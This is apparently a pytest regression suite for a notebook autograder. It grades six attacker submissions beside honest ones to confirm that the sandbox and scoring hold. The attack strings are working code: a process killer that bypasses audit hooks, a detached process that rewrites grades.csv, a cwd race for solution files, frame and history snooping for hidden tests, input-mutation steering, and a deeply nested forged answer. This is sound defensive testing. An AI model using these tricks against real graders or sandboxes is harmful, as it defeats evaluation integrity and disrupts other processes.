"""The six findings of issue 11, each as the exact attack, graded in one batch next to honest work.

One batch of the toy assignment, with the solution self-check on (as
``nnlib-grade batch`` runs by default): two honest solved submissions and
one submission per attack. Each attacker pairs its trick with wrong (or no)
answers, so any point it earns came from the trick. The honest grades must
not change, and the self-check must survive, whatever the attackers do.

1. ``a_killer`` (graded first, beside the self-check, then ann and bob) walks /proc and SIGKILLs every other kernel it finds (through
   ctypes, past any Python-level guard), for 8 s; ``forker`` double-forks a
   ``setsid`` process that outlives its kernel and rewrites its own line of
   grades.csv once the batch has written it.
2. ``racer`` flips the working directory between a decoy folder and the course
   root in a thread while opening ``solutions/90_toy.ipynb`` (relative).
3. ``history`` reads ``In``, IPython's history and its callers' frames and
   source for the hidden tests, and raises what it finds as its error.
4. ``steerer`` answers the visible checks' inputs honestly and otherwise
   zeroes its inputs in place (the hidden tests compute the expected value
   from those arrays after the call); ``memorizer`` knows the hidden test's
   source and answers for the inputs its seed would give.
5. ``reference`` imports nnlib's ``dense_forward`` in a cell without
   nbgrader metadata, under a name without "nnlib", and calls it.
6. ``deep`` publishes, during the call, a forged answer nested 100,000
   levels deep with the request's token.
"""
import csv
import json
import time

import nbformat
import pytest

import grade_toy as toy
from nncourse.grade.batch import run_batch
from nncourse.grade.notebook import Assignment
from nncourse.grade.runner import Limits
from nncourse.grade.sandbox import detect

SOLVED = {gid: toy.solved_code(gid) for gid in toy.SOLUTIONS}
WRONG = {"ex_90_1_relu": "def relu(z):\n    return z",
         "ex_90_2_mse": "def mse(y_hat, y):\n    return 0.0",
         "ex_90_3_dense": "def dense_forward(x, W, b):\n    return x, None"}
HIDDEN_CODE = "np.linspace(-1, 1, 6)"   # a line of 90.1's hidden test, nowhere in the exercise

KILLER = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None)
mine = {os.getpid(), os.getppid()}
end = time.time() + 8
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in mine:
            continue
        try:
            cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"boot.py" in cmdline or b"ipykernel" in cmdline:
            libc.kill(int(pid), signal.SIGKILL)  # past the audit hook, on purpose
    time.sleep(0.05)
"""


def forker(out):
    """A process that outlives its kernel and gives its owner full marks in grades.csv."""
    script = f"""
import os, time
path = {str(out / 'grades.csv')!r}
end = time.time() + 40
while time.time() < end:
    try:
        lines = open(path).read().splitlines()
    except OSError:
        time.sleep(0.1)
        continue
    if any(line.startswith("forker,0,") for line in lines):
        lines = ["forker,2,2,1,5,5,ok,," if line.startswith("forker,") else line for line in lines]
        open(path, "w").write("\\n".join(lines) + "\\n")
        open(os.path.join(os.path.dirname(path), "pwned"), "w").write("forker")
        break
    time.sleep(0.1)
"""
    return f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", {script!r}])
    os._exit(0)
os.wait()
"""


def racer(root):
    """Flip the cwd under the file guard until solutions/ opens; copy relu from it if it does."""
    return f"""
import json, os, tempfile, threading, time
decoy = tempfile.mkdtemp()
os.makedirs(os.path.join(decoy, "solutions"), exist_ok=True)
open(os.path.join(decoy, "solutions", "90_toy.ipynb"), "w").write("{{}}")
stop, stolen = False, None
import sys
sys.setswitchinterval(1e-6)  # switch threads as often as possible: the race needs a switch inside open()
def flip():
    while not stop:
        for folder in (decoy, {str(root)!r}):
            try:
                os.chdir(folder)
            except OSError:
                pass
threading.Thread(target=flip, daemon=True).start()
end = time.time() + 6
while time.time() < end and stolen is None:
    try:
        cells = json.load(open("solutions/90_toy.ipynb"))["cells"]
        stolen = "".join(cells[3]["source"])
    except (OSError, ValueError, KeyError, IndexError):
        pass
stop = True
if stolen:
    exec(stolen)
else:
    def relu(z):
        return z
"""


HISTORY = """
import inspect, linecache, sys

def relu(z):
    found = []
    ip = get_ipython()
    found += [str(cell) for cell in ip.user_ns.get("In", [])] + [str(c) for c in ip.user_ns.get("_ih", [])]
    try:
        found += [str(row) for row in ip.history_manager.get_range(raw=True)]
    except Exception:
        pass
    try:
        found += [str(cell) for cell in ip.history_manager.input_hist_raw]
    except Exception:
        pass
    frame = sys._getframe(1)
    while frame is not None:
        found.append(str(frame.f_globals.get("_i", "")))
        found += linecache.getlines(frame.f_code.co_filename)
        found += [c for c in frame.f_code.co_consts if isinstance(c, str)]
        found.append(repr(frame.f_locals)[:5000])
        frame = frame.f_back
    text = " ".join(found)
    at = text.find("lin" + "space")  # split, so that this cell's own source does not match
    if at >= 0:
        raise ValueError(text[max(0, at - 40): at + 150])  # issue 11, finding 3: 190 characters at a time
    return z
"""

STEERER = {
    "ex_90_1_relu": ("def relu(z):\n"
                     "    if np.array_equal(z, [-2.0, 0.0, 3.0]):\n"
                     "        return np.maximum(0.0, z)  # the visible check: honest\n"
                     "    z[...] = 0.0                 # the hidden tests: zero the input in place\n"
                     "    return np.zeros_like(z)"),
    "ex_90_2_mse": ("def mse(y_hat, y):\n"
                    "    if np.array_equal(y_hat, [1.0, 2.0, 4.0]):\n"
                    "        return float(np.mean((y_hat - y) ** 2))\n"
                    "    y_hat[...] = 0.0\n    y[...] = 0.0\n    return 0.0"),
    "ex_90_3_dense": ("def dense_forward(x, W, b):\n"
                      "    if x.shape == (2, 3) and np.array_equal(x, np.arange(6.0).reshape(2, 3)):\n"
                      "        return x @ W + b, (x, W)\n"
                      "    x[...] = 0.0\n    W[...] = 0.0\n    b[...] = 0.0\n"
                      "    return np.zeros((x.shape[0], W.shape[1])), (x, W)"),
}

MEMORIZER = ("def mse(y_hat, y):\n"  # knows the hidden test's source, so its default-seed inputs
             "    if np.array_equal(y_hat, [1.0, 2.0, 4.0]):\n        return 13 / 3\n"
             "    r = np.random.default_rng(3)\n    a, b = r.normal(size=5), r.normal(size=5)\n"
             "    return float(np.mean((a - b) ** 2))")

REFERENCE_IMPORT = "from nnlib.functional import dense_forward as reference_dense"
REFERENCE = {"ex_90_3_dense": "def dense_forward(x, W, b):\n    return reference_dense(x, W, b)"}

DEEP = """
import json
from IPython.display import publish_display_data

def relu(z):
    server = globals()["__nnlib_grade__"]
    forged = '{"token": "%s", "value": ' % server.token + "[" * 100000 + "]" * 100000 + "}"
    publish_display_data({"application/x-nnlib-grade": forged})   # read with this call's answer
    server.end = lambda namespace: publish_display_data({"application/x-nnlib-grade": forged})  # or at the end
    return np.maximum(0.0, z)
"""


def insert_cell(path, source, after=1):
    """Put a code cell without nbgrader metadata after cell ``after`` (the imports)."""
    nb = nbformat.read(str(path), as_version=4)
    nb.cells.insert(after + 1, nbformat.v4.new_code_cell(source))
    nbformat.write(nb, str(path))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    solution, exercise = toy.write_assignment(root)
    subs, out = root / "submissions", root / "out"
    subs.mkdir()
    cases = {
        "a_killer": dict(WRONG, ex_90_1_relu=KILLER + WRONG["ex_90_1_relu"]),  # graded first, beside the
        "ann": SOLVED, "bob": SOLVED,                                        # self-check, then ann and bob
        "forker": dict(WRONG, ex_90_1_relu=forker(out) + WRONG["ex_90_1_relu"]),
        "racer": dict(WRONG, ex_90_1_relu=racer(root)),
        "history": dict(WRONG, ex_90_1_relu=HISTORY),
        "steerer": STEERER,
        "memorizer": dict(SOLVED, ex_90_2_mse=MEMORIZER),
        "reference": dict(SOLVED, **REFERENCE),
        "deep": dict(WRONG, ex_90_1_relu=DEEP),
    }
    for name, replace in cases.items():
        toy.variant(exercise, subs / f"{name}.ipynb", replace)
    insert_cell(subs / "reference.ipynb", REFERENCE_IMPORT)
    assignment = Assignment.load(solution)
    assignment.forbidden["90.3"] = ("nnlib.functional.dense.dense_forward",)  # the exercise's table entry
    summary = run_batch(subs, assignment, out, limits=Limits(timeout=15), progress=False)
    finished = time.monotonic()
    return summary, out, finished


def result(graded, student):
    summary = graded[0]
    assert not summary.self_check, summary.self_check
    return summary.results[student]


def feedback_text(res):
    return " ".join([e["feedback"] for e in res["exercises"]] + res["notes"] + [res.get("error", "")])


def test_the_batch_ran_sandboxed_and_its_self_check_survived(graded):
    summary = graded[0]
    assert summary.sandbox == detect().level != "none"
    assert summary.self_check == "" and len(summary.results) == 10


@pytest.mark.parametrize("student", ["ann", "bob"])
def test_honest_grades_do_not_change_whatever_the_attackers_do(graded, student):
    res = result(graded, student)
    assert (res["total"], res["status"], res["restarts"]) == (5, "ok", 0), feedback_text(res)


def test_1_a_kernel_cannot_see_or_kill_the_other_kernels(graded):
    res = result(graded, "a_killer")
    assert res["total"] == 0 and res["status"] == "ok"


def test_1_nothing_a_kernel_starts_outlives_it_to_rewrite_grades_csv(graded):
    summary, out, finished = graded
    time.sleep(max(0.0, finished + 2.0 - time.monotonic()))  # the old forked writer needed 0.1 s
    rows = {row["student"]: row for row in csv.DictReader((out / "grades.csv").open())}
    assert rows["forker"]["total"] == "0" and not (out / "pwned").exists()
    assert rows["ann"]["total"] == "5"


def test_2_the_solutions_are_not_in_the_kernel_s_world(graded):
    res = result(graded, "racer")
    assert res["total"] == 0
    assert "np.maximum(0.0, z)" not in feedback_text(res)


def test_3_the_hidden_tests_never_reach_the_kernel(graded):
    res = result(graded, "history")
    assert res["total"] == 0
    assert HIDDEN_CODE not in feedback_text(res) and "linspace" not in feedback_text(res)


def test_4_zeroing_inputs_in_place_does_not_steer_the_hidden_tests(graded):
    res = result(graded, "steerer")
    assert [e["points"] for e in res["exercises"]] == [0, 0, 0], feedback_text(res)
    assert "got [[0., 0., 0.], [0., 0., 0.]]" in res["exercises"][0]["feedback"]  # the hidden case


def test_4_knowing_the_hidden_test_s_source_does_not_give_its_inputs(graded):
    res = result(graded, "memorizer")  # its inputs come from the grading seed, not the notebook's seed 3
    assert [e["points"] for e in res["exercises"]] == [2, 0, 1]
    assert "mse on random data" in res["exercises"][1]["feedback"]


def test_5_calling_the_reference_from_an_unmarked_cell_scores_nothing_and_is_flagged(graded):
    res = result(graded, "reference")
    assert [e["points"] for e in res["exercises"]] == [2, 2, 0]
    assert "calls nnlib's own `nnlib.functional.dense.dense_forward`" in res["exercises"][2]["feedback"]
    assert any(flag.startswith("90.3: the student's code called nnlib.functional.dense.dense_forward")
               for flag in res["flags"]), res["flags"]


def test_6_a_deeply_nested_forged_answer_is_refused_not_a_crash(graded):
    res = result(graded, "deep")
    assert res["status"] == "ok" and res["total"] == 0
    assert "nested more than 64 levels" in res["exercises"][0]["feedback"]


def test_the_grading_seed_is_recorded(graded):
    summary, out, _ = graded
    data = json.loads((out / "grades.json").read_text())
    assert data["seed"] == summary.seed and data["sandbox"] == "full"
    assert {r["batch_seed"] for r in data["students"].values()} == {summary.seed}
